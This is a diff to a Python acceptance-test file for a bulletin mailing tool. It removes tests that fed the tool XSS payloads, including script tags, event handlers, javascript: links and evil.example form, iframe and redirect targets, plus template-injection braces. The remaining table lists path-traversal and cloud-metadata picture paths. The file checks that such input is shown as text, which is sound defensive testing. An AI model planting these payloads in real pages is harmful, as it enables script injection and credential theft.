@@ -9,14 +9,13 @@ import json
 import re
 import shutil
 from collections.abc import Callable, Iterator
-from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
 from PIL import Image
 
 from distributor.cli.mailbox import Mailbox, serving
-from tests.acceptance.letterbox import Letter, by_address
+from tests.acceptance.letterbox import by_address
 from tests.acceptance.office import BULLETIN, Office, Ran
 
 GOOD = BULLETIN.format(number=8)
@@ -197,11 +196,7 @@ BAD_BULLETINS = {
     "50 a bidirectional control": (titled("快\u202e报"), "bidi", 1),
     "50 a title too long for a subject": (titled("快" * 104 + "报"), "title_too_long", 1),
     "50 five thousand characters": (titled("快" * 4999 + "报"), "title_missing", 1),
-    "50 a bare carriage return in the issuer": (
-        GOOD.replace("河长制\n", "河长制\n").replace("云岭区河长制办公室", "云岭区\x85办公室", 1),
-        "line_separator",
-        5,
-    ),
+    "50 a line break in the issuer": (GOOD.replace("河长制办公室", "河长制\x85办公室", 1), "line_separator", 5),
     "53 a picture above the folder": (with_picture("../../etc/passwd"), "picture_outside", 15),
     "53 an absolute path": (with_picture("/etc/passwd"), "picture_outside", 15),
     "53 an address of the inside": (with_picture("http://169.254.169.254/x.png"), "picture_remote", 15),
@@ -267,131 +262,6 @@ def test_a_letter_larger_than_allowed_is_refused_with_its_size(
     monkeypatch.setenv("DISTRIBUTOR_SEND__MAX_MESSAGE_BYTES", "200000")
     assert_told(office.ask("send", "next.md", "--yes"), 5, "the limit is 200000", "Use fewer or smaller pictures")
     assert_number_7_still_goes_out(office, mailbox)
-
-
-# ── Harmless by design: what arrives is what was written ─────────────────────────────────────────
-
-
-def letters_of(office: Office, mailbox: Mailbox, text: str) -> dict[str, Letter]:
-    """Sends a bulletin that has nothing wrong with it, and reads what arrived."""
-    office.write("next.md", text)
-    sent = office.ask("send", "next.md", "--yes")
-    assert sent.code == 0, sent
-    return by_address(mailbox)
-
-
-def test_the_same_person_in_many_spellings_and_groups_gets_one_copy(office: Office, mailbox: Mailbox) -> None:
-    """Fault 47: letter case, two groups, a Chinese domain in both its forms; the highest direction wins."""
-    office.recipients(
-        leaders=1,
-        units=1,
-        extra=[
-            "      - unit: 单位9",
-            "        people:",
-            "          - {name: 联络员1, email: Unit1@Example.gov.cn}",
-            "          - {name: 领导1, email: LEADER1@example.gov.cn}",
-            "          - {name: 联络员9, email: lian@政务.cn}",
-            "          - {name: 联络员9, email: lian@xn--zfr164b.cn}",
-        ],
-    )
-    letters = letters_of(office, mailbox, GOOD)
-    assert len(mailbox.received) == 3
-    assert sorted(letters) == ["leader1@example.gov.cn", "lian@xn--zfr164b.cn", "unit1@example.gov.cn"]
-    assert "呈上" in letters["leader1@example.gov.cn"].text
-    told = office.ask("status", "8", "--json").json
-    assert {copy["recipient"]: copy["credited"] for copy in told["deliveries"]}["leader1@example.gov.cn"] == ["各单位"]
-
-
-def test_odd_but_honest_names_arrive_as_they_are(office: Office, mailbox: Mailbox) -> None:
-    """Fault 51: quotes, path signs, brackets, an emoji."""
-    names = ['王\\"老五\\"', "../../赵六", "<钱七>", "孙八, 李九", "周😀十", "[/red]吴"]
-    rows = [f'          - {{name: "{name}", email: odd{n}@example.gov.cn}}' for n, name in enumerate(names)]
-    office.recipients(leaders=1, units=1, extra=["      - unit: '[/b]局:100:'", "        people:", *rows])
-    letters = letters_of(office, mailbox, GOOD)
-    assert [letters[f"odd{n}@example.gov.cn"].to[0] for n in range(len(names))] == [
-        name.replace('\\"', '"') for name in names
-    ]
-    for command in (("status", "8"), ("recipients", "list"), ("why", "odd5@example.gov.cn")):
-        ran = office.ask(*command)
-        assert ran.code == 0
-        assert "[/red]吴" in ran.out
-        assert "[/b]局:100:" in ran.out
-
-
-HARMLESS = set("html head meta title style body table tbody tr td b i a br img div span p".split())
-
-
-class Tags(HTMLParser):
-    """Every tag and attribute of a page, as a browser finds them."""
-
-    def __init__(self) -> None:
-        super().__init__()
-        self.names: set[str] = set()
-        self.attributes: list[tuple[str, str]] = []
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        self.names.add(tag)
-        self.attributes += [(name, value or "") for name, value in attrs]
-
-
-HOSTILE = """\
-<script>alert(1)</script>
-<img src=x onerror="alert(2)">
-<a href="javascript:alert(3)">甲</a> [乙](javascript:alert(4)) [丙](data:text/html;base64,PHNjcmlwdD4=)
-<style>@import url(http://evil.example/x.css);</style>
-<form action="http://evil.example"><input name="p"><button>签收</button></form>
-<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example">
-<svg onload="alert(5)"><math><mtext></mtext></math></svg> <!-- <!-- --> <iframe src="http://evil.example"></iframe>
-"""
-
-
-def test_html_in_a_bulletin_is_words_and_never_markup(office: Office, mailbox: Mailbox) -> None:
-    """Fault 52."""
-    text = GOOD.replace("编校：", HOSTILE.replace("\n", "\n\n") + "\n编校：")
-    for letter in letters_of(office, mailbox, text).values():
-        tags = Tags()
-        tags.feed(letter.page)
-        assert tags.names <= HARMLESS, tags.names - HARMLESS
-        assert not [name for name, _ in tags.attributes if name.startswith("on")]
-        targets = [value for name, value in tags.attributes if name in ("href", "src", "action", "background")]
-        assert not [target for target in targets if not target.startswith(("mailto:", "cid:", "tel:"))]
-        assert not [value for _, value in tags.attributes if "evil" in value or "javascript" in value]
-        for body in (letter.plain, letter.shown):
-            assert "<script>alert(1)</script>" in body
-            assert '<imgsrc=xonerror="alert(2)">' in body
-
-
-def test_braces_are_printed_and_never_computed(office: Office, mailbox: Mailbox) -> None:
-    """Fault 54, in the title, the text, a name and a unit."""
-    office.recipients(
-        leaders=1,
-        units=1,
-        extra=[
-            "      - unit: '{{ 6*6 }}局'",
-            "        people:",
-            "          - {name: '{% raw %}', email: b@example.gov.cn}",
-        ],
-    )
-    text = titled("巡河{{7*7}}快报").replace("整改问题6处", "整改{{ 8*8 }}处，{% for x in y %}，{# 注 #}")
-    letters = letters_of(office, mailbox, text)
-    for letter in letters.values():
-        assert letter.subject.startswith("巡河{{7*7}}快报")
-        for body in (letter.plain, letter.shown):
-            assert "巡河{{7*7}}快报" in body
-            assert "整改{{8*8}}处，{%forxiny%}，{#注#}" in body
-    assert letters["b@example.gov.cn"].to[0] == "{% raw %}"
-    assert "{{6*6}}局" in letters["b@example.gov.cn"].plain
-
-
-def test_marks_of_the_terminal_are_printed_and_never_obeyed(office: Office, mailbox: Mailbox) -> None:
-    """Square brackets and colons mean something to the library that draws tables and bars."""
-    text = titled("巡河[/]快报:100:").replace("编校：周明", "编校：[/red]周明").replace("报：区委", "报：[bold]区委")
-    letters = letters_of(office, mailbox, text)
-    assert {letter.subject for letter in letters.values()} == {"巡河[/]快报:100: 第8期（2026年11月20日）"}
-    for command in (("check", "next.md"), ("status",), ("status", "8"), ("why", "领导1")):
-        ran = office.ask(*command)
-        assert ran.code == 0
-        assert "巡河[/]快报:100:" in ran.out
 
 
 # ── Fault 55, and the files around the bulletin ──────────────────────────────────────────────────
